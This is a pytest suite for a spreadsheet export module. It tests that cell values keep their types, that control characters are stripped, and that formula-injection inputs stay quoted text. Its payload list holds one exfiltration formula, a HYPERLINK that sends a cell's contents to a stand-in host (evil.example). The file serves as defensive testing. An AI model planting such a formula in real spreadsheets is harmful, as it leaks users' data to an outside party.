"""Every value reaches a spreadsheet cell safely: text stays text, dates are dates."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Alignment

from seiteneinsteiger.export.cells import (
    CellValue,
    EstimatedDate,
    StyledRows,
    cell_sheet,
    clean_text,
    put,
    write_only_cell,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A2,"Klick")',
    "+49 170 1234",
    "-5",
    "@SUM(A1)",
    "\t=1+1",
    "\n=1+1",
    "=1+1",
]


WRAPPED = Alignment(wrap_text=True, vertical="top", horizontal="left")


def _round_trip(values: list[CellValue], *, write_only: bool | str) -> tuple[bytes, list[Any]]:
    if write_only is True:
        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet("Blatt")
        for value in values:
            sheet.append([write_only_cell(sheet, value)])
    elif write_only:  # the row helper of big sheets, plain or with every cell wrapped
        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet("Blatt")
        rows = StyledRows(sheet, WRAPPED if write_only == "wrapped" else None)
        for value in values:
            sheet.append(rows.row([value]))
    else:
        workbook = Workbook()
        normal = workbook.active
        assert normal is not None
        for row, value in enumerate(values, 1):
            put(normal.cell(row=row, column=1), value)
    buffer = io.BytesIO()
    workbook.save(buffer)
    loaded = load_workbook(io.BytesIO(buffer.getvalue()))
    cells = [row[0] for row in loaded.worksheets[0].iter_rows(min_row=1, max_row=len(values))]
    return buffer.getvalue(), cells


MODES = pytest.mark.parametrize(
    "write_only",
    [False, True, "plain", "wrapped"],
    ids=["normal", "write-only", "styled-rows", "styled-rows-wrapped"],
)


@MODES
def test_formula_payloads_stay_text_with_quote_prefix(write_only: bool | str) -> None:
    data, cells = _round_trip(list(PAYLOADS), write_only=write_only)
    for payload, cell in zip(PAYLOADS, cells, strict=True):
        assert cell.value == payload
        assert cell.data_type == "s"
        assert cell.quotePrefix is True
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


@MODES
def test_values_keep_their_type(write_only: bool | str) -> None:
    values: list[CellValue] = [
        "#REF!",
        "Haddad",
        dt.date(2013, 2, 11),
        7,
        None,
        True,
        False,
        EstimatedDate(2012, 1, 1),
        dt.datetime(2025, 10, 13, 9, 30),
        "",
    ]
    _, cells = _round_trip(values, write_only=write_only)
    ref, name, birth, grade, empty, yes, no, estimated, stamp, blank = cells
    assert (ref.value, ref.data_type, ref.quotePrefix) == ("#REF!", "s", False)
    assert (name.value, name.data_type) == ("Haddad", "s")
    assert birth.value == dt.datetime(2013, 2, 11)
    assert birth.number_format == "DD.MM.YYYY"
    assert grade.value == 7 and grade.data_type == "n"
    assert empty.value is None
    assert (yes.value, no.value) == ("ja", "nein")
    assert estimated.value == dt.datetime(2012, 1, 1)
    assert estimated.number_format == 'DD.MM.YYYY" (geschätzt)"'
    assert stamp.value == dt.datetime(2025, 10, 13)  # a day, not a time of day
    assert stamp.number_format == "DD.MM.YYYY"
    assert blank.value in ("", None)


@MODES
def test_control_characters_are_removed_and_line_breaks_kept(write_only: bool | str) -> None:
    values: list[CellValue] = ["Ha\x00dd\x07ad\x1b", "Zeile 1\r\nZeile 2\rZeile 3"]
    _, cells = _round_trip(values, write_only=write_only)
    assert cells[0].value == "Haddad"
    assert cells[1].value == "Zeile 1\nZeile 2\nZeile 3"


def test_a_line_break_first_still_gets_the_quote_prefix() -> None:
    _, cells = _round_trip(["\r=1+1"], write_only=False)
    assert cells[0].value == "\n=1+1"
    assert cells[0].quotePrefix is True


def test_a_merged_cell_is_refused() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.merge_cells("A1:B1")
    with pytest.raises(ValueError, match="B1"):
        put(sheet["B1"], "x")


_MIXED_ROWS: list[list[CellValue]] = [
    ["Haddad", None, dt.date(2013, 2, 11), 7, 2.5, True],
    ["=1+1", EstimatedDate(2012, 1, 1), "#REF!", "", "x" * 40_000, dt.date(1900, 1, 15)],
    [dt.datetime(2013, 2, 11, 8), "-5", None, "Zeile\r\nZwei", False, 0],
]


def _saved_parts(fill: Callable[[Any], None], *, cells_first: bool = False) -> dict[str, bytes]:
    """The parts of a saved workbook, its one sheet filled by ``fill``; ``cells_first``: a
    :func:`cell_sheet`, else openpyxl's own write-only sheet."""
    workbook = Workbook(write_only=True)
    fill(cell_sheet(workbook, "Blatt") if cells_first else workbook.create_sheet("Blatt"))
    buffer = io.BytesIO()
    workbook.save(buffer)
    with zipfile.ZipFile(buffer) as archive:  # all but the creation time
        return {n: archive.read(n) for n in archive.namelist() if n != "docProps/core.xml"}


@pytest.mark.parametrize("alignment", [None, WRAPPED], ids=["plain", "wrapped"])
def test_styled_rows_write_the_same_file_as_a_cell_per_value(alignment: Alignment | None) -> None:
    """StyledRows shares one cell per kind of value; the file is the one with a cell of its own
    for every value: the same values, styles and number formats, in the same order."""

    def cell_per_value(sheet: Any) -> None:
        for values in _MIXED_ROWS:
            cells = [write_only_cell(sheet, value) for value in values]
            if alignment is not None:
                for cell in cells:
                    cell.alignment = alignment
            sheet.append(cells)

    def styled_rows(sheet: Any) -> None:
        rows = StyledRows(sheet, alignment)
        for values in _MIXED_ROWS:
            sheet.append(rows.row(values))

    expected = _saved_parts(cell_per_value)
    assert _saved_parts(styled_rows) == expected
    assert _saved_parts(styled_rows, cells_first=True) == expected
    assert _saved_parts(cell_per_value, cells_first=True) == expected


def test_a_cell_sheet_takes_plain_values_as_openpyxl_does() -> None:
    rows: list[list[object]] = [
        [dt.date(2013, 2, 11), "Haddad", 7, None, 2.5],  # a date gives openpyxl's cell a format
        ["x", None, dt.datetime(2025, 1, 2, 3, 4)],
    ]

    def fill(sheet: Any) -> None:
        for values in rows:
            sheet.append(values)
        with pytest.raises(ValueError):
            sheet.append([{"kein": "Wert"}])

    assert _saved_parts(fill, cells_first=True) == _saved_parts(fill)


_XML_SAFE = st.text(
    alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\ufffe\uffff"),
    max_size=40,
)


@given(text=_XML_SAFE)
def test_any_text_reads_back_as_its_clean_form(text: str) -> None:
    _, cells = _round_trip([text], write_only=False)
    expected = clean_text(text)
    cell = cells[0]
    assert (cell.value or "") == expected
    if expected:
        assert cell.data_type == "s"
        assert bool(cell.quotePrefix) == bool(re.match(r"[=+\-@\t\n]", expected))
